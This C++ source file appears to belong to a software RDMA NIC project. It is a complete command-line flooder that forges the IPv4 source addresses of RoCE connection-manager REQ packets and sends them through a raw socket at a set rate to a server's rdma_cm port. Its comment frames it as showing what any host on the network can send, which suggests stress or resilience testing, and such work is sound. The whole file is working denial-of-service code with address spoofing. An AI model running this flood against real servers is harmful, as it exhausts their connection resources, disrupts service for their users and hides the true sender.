// Connection requests with forged senders, as many a second as asked for: what anybody on the network can
// send.
//
//   flood SERVER PORT RATE SECONDS FIRST COUNT [SPARED…]
//
// RATE well-formed REQs a second go to the rdma_cm port PORT of SERVER, in the name of COUNT IPv4
// addresses from FIRST on, without SERVER and those SPARED. Each asks for a new connection of a new queue
// pair. Needs CAP_NET_RAW. Prints how many were sent, once a second's portion has gone without pause.
// SECONDS 0: until it is killed.
#include <arpa/inet.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>
#include <vector>

#include "cm/messages.h"
#include "cma/ip_header.h"
#include "cma/port_space.h"
#include "mad/address.h"
#include "wire/frame.h"
#include "wire/headers.h"
#include "wire/icrc.h"

using namespace softrnic;
using Clock = std::chrono::steady_clock;

namespace {

constexpr std::size_t kBatch = 32;
constexpr std::uint16_t kSourcePort = 0xc123;

struct Attack {
  std::uint32_t server = 0;  ///< host order, as all addresses here
  std::uint16_t port = 0;
  std::uint64_t rate = 0, seconds = 0;
  std::vector<std::uint32_t> senders{};
};

cma::SocketAddress address(std::uint32_t host, std::uint16_t port) {
  cma::SocketAddress out = cma::SocketAddress::any(cma::Family::ipv4);
  out.host = wire::Gid::from_ipv4_be(htonl(host));
  out.port = port;
  return out;
}

mad::Mad request(const Attack& attack, std::uint32_t sender, std::uint32_t number) {
  cm::Req req;
  req.local_id = number;
  req.service_id = cm::ServiceId(cma::service_id_of(cma::PortSpace::tcp, attack.port));
  req.ca_guid = std::uint64_t{sender} << 32 | number;
  req.qpn = Qpn(number & 0xffffff);
  req.starting_psn = number & 0xffffff;
  req.responder_resources = req.initiator_depth = 1;
  req.local_response_timeout = req.remote_response_timeout = 20;
  req.max_cm_retries = 15;
  req.retry_count = req.rnr_retry_count = 7;
  req.pkey = wire::kDefaultPkey;
  req.mtu = 3;
  req.primary.ack_timeout = 14;
  req.primary.hop_limit = 64;
  const cma::IpHeader header{address(sender, 40000), address(attack.server, attack.port)};
  req.primary.local_gid = header.source.host;
  req.primary.remote_gid = header.destination.host;
  header.write(req.private_data);
  return cm::encode(req, number);
}

/// One IP datagram.
std::vector<std::byte> datagram(const Attack& attack, std::uint32_t sender, std::uint32_t number) {
  wire::Headers headers;
  headers.bth.opcode = wire::Opcode::ud_send_only;
  headers.bth.pkey = wire::kDefaultPkey;
  headers.bth.destination = headers.deth.source = mad::kGsiQpn;
  headers.bth.psn = number & wire::kPsnMask;
  headers.deth.qkey = mad::kGsiQkey;
  std::array<std::byte, wire::kMaxHeaderBytes> transport;
  const std::size_t header_bytes = wire::encode(headers, transport);
  const std::size_t payload = header_bytes + mad::kMadBytes + wire::kIcrcBytes;
  wire::FrameHeaders below;
  below.flow.source = address(sender, 0).host;
  below.flow.destination = address(attack.server, 0).host;
  below.flow.source_port = kSourcePort;
  const mad::Mad mad = request(attack, sender, number);
  wire::Icrc icrc(below.flow, payload, below.ip_id);
  icrc.add_headers(Bytes(transport).first(header_bytes));
  icrc.add(mad);
  std::array<std::byte, wire::kMaxFrameHeaderBytes> frame;
  const std::size_t frame_bytes = wire::encode_frame(below, payload, frame);
  std::vector<std::byte> out(frame.begin() + wire::kEthernetBytes,
                             frame.begin() + static_cast<std::ptrdiff_t>(frame_bytes));
  out.insert(out.end(), transport.begin(), transport.begin() + static_cast<std::ptrdiff_t>(header_bytes));
  out.insert(out.end(), mad.begin(), mad.end());
  out.resize(out.size() + wire::kIcrcBytes);
  const std::uint32_t value = icrc.value();
  for (std::size_t i = 0; i < wire::kIcrcBytes; ++i)
    out[out.size() - wire::kIcrcBytes + i] = static_cast<std::byte>(value >> (8 * i));
  return out;
}

bool send_batch(int raw, const Attack& attack, std::uint32_t first_number) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(attack.server);
  std::array<std::vector<std::byte>, kBatch> packets;
  std::array<iovec, kBatch> pieces{};
  std::array<mmsghdr, kBatch> messages{};
  for (std::uint32_t i = 0; i < kBatch; ++i) {
    const std::uint32_t number = first_number + i;
    packets[i] = datagram(attack, attack.senders[number % attack.senders.size()], number);
    pieces[i] = {packets[i].data(), packets[i].size()};
    messages[i].msg_hdr = {&to, sizeof to, &pieces[i], 1, nullptr, 0, 0};
  }
  for (std::size_t sent = 0; sent < kBatch;) {
    const int now = sendmmsg(raw, &messages[sent], static_cast<unsigned>(kBatch - sent), 0);
    if (now <= 0) return perror("sendmmsg"), false;
    sent += static_cast<std::size_t>(now);
  }
  return true;
}

std::uint32_t parse(const char* text) {
  in_addr address{};
  if (inet_pton(AF_INET, text, &address) != 1) std::exit(2);
  return ntohl(address.s_addr);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7) return 2;
  Attack attack{.server = parse(argv[1]),
                .port = static_cast<std::uint16_t>(std::stoul(argv[2])),
                .rate = std::stoul(argv[3]),
                .seconds = std::stoul(argv[4])};
  std::vector<std::uint32_t> spared{attack.server};
  for (int i = 7; i < argc; ++i) spared.push_back(parse(argv[i]));
  for (std::uint32_t i = 0; i < std::stoul(argv[6]); ++i) {
    const std::uint32_t sender = parse(argv[5]) + i;
    if (std::find(spared.begin(), spared.end(), sender) == spared.end()) attack.senders.push_back(sender);
  }
  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // we write the IP header
  if (raw < 0 || attack.senders.empty()) return perror("socket"), 1;
  const auto begin = Clock::now();
  const std::uint64_t total = attack.seconds != 0 ? attack.rate * attack.seconds : UINT64_MAX;
  std::uint64_t sent = 0, told = 0;
  while (sent < total) {
    if (!send_batch(raw, attack, static_cast<std::uint32_t>(sent))) return 1;
    sent += kBatch;
    const auto due = begin + std::chrono::nanoseconds(sent * 1'000'000'000 / attack.rate);
    std::this_thread::sleep_until(due);  // NOLINT(no-sleep): it waits for nothing but its rate
    const std::chrono::duration<double> gone = Clock::now() - begin;
    if (sent - told < attack.rate) continue;
    told = sent;
    std::printf("sent %llu in %.1f s\n", static_cast<unsigned long long>(sent), gone.count());
    std::fflush(stdout);
  }
  return 0;
}
